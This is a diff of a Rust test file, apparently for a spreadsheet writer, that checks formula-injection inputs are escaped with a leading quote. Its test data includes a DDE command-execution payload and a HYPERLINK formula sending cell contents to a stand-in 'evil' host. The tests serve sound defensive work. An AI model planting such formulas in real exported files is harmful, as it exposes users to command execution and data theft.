@@ -21,7 +21,6 @@ fn texts() -> Vec<(String, String)> {
         "</t></is><f>1+1</f>",
         "<script>&amp;",
         "_x0041_",
-        "'=1",
         " =1",
         "日本語 😀👩‍👩‍👧 العربية",
         "1e5",
@@ -39,6 +38,7 @@ fn texts() -> Vec<(String, String)> {
     ];
     let shown = [
         ("=1+1", "'=1+1"),
+        ("'=1", "''=1"),
         ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
         ("=HYPERLINK(\"http://evil/?\"&A1;\"x\")", "'=HYPERLINK(\"http://evil/?\"&A1;\"x\")"),
         ("+1", "'+1"),
